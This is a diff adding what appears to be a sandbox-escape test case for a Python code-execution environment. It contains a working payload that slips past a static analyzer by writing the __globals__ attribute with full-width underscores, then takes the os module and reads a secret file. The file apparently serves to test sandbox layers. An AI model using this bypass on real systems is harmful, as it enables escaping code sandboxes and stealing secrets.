@@ -1,0 +1,10 @@
+# class: parser differentials
+# technique: an attribute with full-width underscores
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+g = quit.__init__._＿globals＿_
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
